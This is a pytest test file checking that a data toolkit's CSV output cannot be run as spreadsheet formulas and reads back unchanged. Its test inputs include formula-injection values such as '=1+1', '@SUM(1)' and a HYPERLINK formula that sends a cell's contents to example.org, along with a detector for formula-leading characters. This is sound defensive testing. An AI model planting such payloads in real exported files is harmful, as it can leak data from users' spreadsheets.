"""CSV that a spreadsheet executes nothing of, and that reads back as it was: texts, ids, names of columns."""

from __future__ import annotations

import csv
import re
import unicodedata
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import toolkit.api as api
from toolkit.common.csvfile import read_sheet, write_sheet
from toolkit.common.errors import InputError
from toolkit.records import Column
from toolkit.shards import ShardWriter

TEXT = st.none() | st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=20) | st.sampled_from(
    ["", "'", "''", "=1+1", " =1+1", "+1", "-2", "@a", "\t=x", "\r=x", "\r\n", "a,b", 'say "so"', "line\nbreak", "1e9", "0012", "12-3", "1/2", "＝1", "'=1",
     "x\0y", "\0=1", "\ufeff", "\ufeff=1", "\u200b@x", "\u202e=x", "\u2028=x", "\x85+1", "\xa0-1", "   ", "\u3000", "é;ü", "%x", "|x", "123456789012345678901234"]
)  # fmt: skip


def raw(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, strict=True))


def executed(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula, a number or a date."""
    seen = "".join(c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp"))
    return seen[:1] in tuple("=+-@＝＋－＠") or (bool(cell) and re.fullmatch(r"[\d .,:/-]+", cell, re.ASCII) is not None)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXT, TEXT, st.integers(-5, 5)), max_size=6), st.text(st.sampled_from("a=+-@'\"\n;,"), min_size=1, max_size=4))
def test_a_table_reads_back_as_it_was_and_nothing_is_executed(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str | None, str | None, int]], name: str
) -> None:
    path = tmp_path_factory.mktemp("sheet") / "t.csv"
    schema = {"n": pl.Int64, f"={name.strip()}x": pl.String, "b": pl.String}
    table = pl.DataFrame([(n, a, b) for a, b, n in rows], schema=schema, orient="row")
    write_sheet(table, path)
    columns, found = read_sheet(path)
    assert columns == table.columns
    assert [(int(r["n"] or "x"), r[columns[1]], r["b"]) for _, r in found] == table.rows()
    assert not any(executed(cell) for line in raw(path) for cell in line[1:])
    table.write_parquet(path.with_suffix(".parquet"))
    assert [tuple(r.values())[1:] for _, r in read_sheet(path.with_suffix(".parquet"))[1]] == table[:, 1:].rows()


def test_what_spreadsheets_make_of_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_bytes('\ufeffid;task;decision;note\r\na;prompt;Keep;"two\r\nlines, one cell"\r\n;;;\r\nb;prompt;flip;\r\n'.encode())
    columns, rows = read_sheet(path)
    assert columns == ["id", "task", "decision", "note"]
    assert [(where.rsplit(":", 1)[1], r["id"], r["note"]) for where, r in rows] == [("2", "a", "two\r\nlines, one cell"), ("5", "b", None)]
    path = path.rename(tmp_path / "D.CSV")
    path.write_text("id,task,decision,reviewer,note\na,prompt,keep\nb,prompt\nc,prompt,drop,me,why,,\n  \n")  # empty cells at the end go, or come
    assert [(r["id"], r["decision"], r["note"]) for _, r in read_sheet(path)[1]] == [("a", "keep", None), ("b", None, None), ("c", "drop", "why")]
    path = path.rename(tmp_path / "d.csv")
    for bad, message in (
        (b"", "empty"),
        (b"id,id\n", "two columns are called 'id'"),
        (b"id,task\na,b,c\n", r"d.csv:2: 3 cells, the header has 2"),
        (b"id\n\xff\n", "not UTF-8"),
    ):
        path.write_bytes(bad)
        with pytest.raises(InputError, match=message):
            list(read_sheet(path)[1])
    path.rename(tmp_path / "d.xlsx")
    with pytest.raises(InputError, match=r"give .csv or .parquet"):
        read_sheet(tmp_path / "d.xlsx")


def test_what_overlaps_writes_is_no_formula(tmp_path: Path) -> None:
    """An id is whatever the rows say it is."""
    ids = ['=HYPERLINK("http://example.org/"&A1,"x")', "@SUM(1)", "+1", "-1", "'", "plain", "007"]
    pl.DataFrame({"id": ids, "prompt": ["How long do eggs keep?"] * len(ids)}).write_parquet(tmp_path / "a.parquet")
    api.overlaps(rows={"=a": tmp_path / "a.parquet", "b": tmp_path / "a.parquet"}, output=tmp_path / "o.csv")
    lines = raw(tmp_path / "o.csv")
    assert len(lines) > len(ids) and not any(executed(cell) for line in lines for cell in line[:-1])
    assert {row["row"] for _, row in read_sheet(tmp_path / "o.csv")[1]} == set(ids)


def test_what_diff_writes_is_no_formula(tmp_path: Path) -> None:
    def shards(folder: Path, ids: list[str], text: str) -> Path:
        writer = ShardWriter(folder, (Column("id", "string"), Column("prompt", "string")), 100)
        writer.write(pl.DataFrame({"id": ids, "prompt": [text] * len(ids)}), "train")
        writer.finish({})
        return folder

    ids = ["=1+1", "@SUM(1)", "+1", "-1", "'", "plain", "007"]
    a, b = shards(tmp_path / "a", ids, "one"), shards(tmp_path / "b", ids, "two")
    found = api.diff(a, b, output=tmp_path / "d.csv")
    assert found["changed"]["rows"] == len(ids)
    assert not any(executed(cell) for line in raw(tmp_path / "d.csv") for cell in [line[1]])
    assert {row["id"] for _, row in read_sheet(tmp_path / "d.csv")[1]} == set(ids)
